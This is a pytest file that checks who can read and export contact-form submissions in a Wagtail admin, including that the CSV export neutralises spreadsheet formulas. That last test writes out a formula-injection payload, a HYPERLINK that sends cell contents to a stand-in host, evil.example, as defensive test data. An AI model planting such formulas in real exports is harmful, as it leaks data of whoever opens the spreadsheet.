"""Only permitted users can read and export submissions in the admin."""

import csv
import io

from django.contrib.auth.models import Group, Permission
from django.urls import reverse

from wagtail.contrib.forms.models import FormSubmission
from wagtail.models import GroupPagePermission

import pytest


@pytest.fixture
def submission(contact):
    return FormSubmission.objects.create(
        page=contact, form_data={"name": "Max Muster", "e_mail": "max@example.org"}
    )


def list_url(page):
    return reverse("wagtailforms:list_submissions", args=[page.pk])


def test_superuser_can_list_submissions(admin_client_de, contact, submission):
    response = admin_client_de.get(list_url(contact))
    assert response.status_code == 200
    assert "Max Muster" in response.content.decode()


def test_superuser_can_export_submissions_as_csv(admin_client_de, contact, submission):
    response = admin_client_de.get(list_url(contact), {"export": "csv"})
    assert response.status_code == 200
    assert "csv" in response["Content-Type"]
    content = b"".join(response.streaming_content).decode() if response.streaming else ""
    content = content or response.content.decode()
    assert "max@example.org" in content


def test_anonymous_visitor_cannot_read_submissions(client, contact, submission):
    response = client.get(list_url(contact))
    assert response.status_code == 302
    assert "login" in response["Location"]


def test_editor_without_page_permission_cannot_read_or_export(
    client, django_user_model, contact, submission
):
    user = django_user_model.objects.create_user("reader", password="a-long-test-password")
    group = Group.objects.create(name="Admin access only")
    group.permissions.add(Permission.objects.get(codename="access_admin"))
    user.groups.add(group)
    client.force_login(user)
    for params in ({}, {"export": "csv"}):
        response = client.get(list_url(contact), params)
        assert response.status_code in (302, 403)
        assert "Max Muster" not in getattr(response, "content", b"").decode()


def test_editor_with_page_permission_can_read_submissions(
    client, django_user_model, homes, contact, submission
):
    user = django_user_model.objects.create_user("editor", password="a-long-test-password")
    group = Group.objects.create(name="Editors of the contact page")
    group.permissions.add(Permission.objects.get(codename="access_admin"))
    GroupPagePermission.objects.create(
        group=group, page=contact, permission=Permission.objects.get(codename="change_page")
    )
    user.groups.add(group)
    client.force_login(user)
    assert client.get(list_url(contact)).status_code == 200


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_the_csv_export_neutralises_spreadsheet_formulas(admin_client_de, contact, start):
    formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"Klick")'
    FormSubmission.objects.create(page=contact, form_data={"name": formula, "e_mail": "x@y.de"})

    response = admin_client_de.get(list_url(contact), {"export": "csv"})
    content = b"".join(response.streaming_content).decode()

    rows = list(csv.reader(io.StringIO(content)))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + formula in cells
    assert formula not in cells
